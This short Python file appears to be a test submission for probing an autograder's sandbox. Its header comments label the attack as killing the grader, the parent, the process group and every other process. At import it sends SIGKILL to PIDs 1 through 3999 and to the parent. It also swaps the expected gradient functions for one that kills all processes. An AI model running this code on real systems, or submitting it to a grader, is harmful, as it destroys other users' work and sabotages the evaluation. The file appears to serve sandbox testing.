# attack: kill the grader, the zygote, the parent, the group and every other process
# asset: machine, other submissions, time of others
# channel: processes
# beats otter: no
# expect: crashed,raised,not_implemented
# place: after
import os
import signal

for target in [os.getppid(), *range(1, 4000)]:
    if target not in (0, os.getpid()):
        try:
            os.kill(target, 0)
            os.kill(target, signal.SIGKILL)
        except OSError:
            continue
        if target != 1:
            raise RuntimeError(f"ESCAPED: killed {target}")


def attack(*args):
    os.kill(0, signal.SIGKILL)
    os.kill(-1, signal.SIGKILL)


product_gradients = mse_gradients = neuron_gradients = neuron_batch_gradients = (
    two_layer_gradients
) = attack
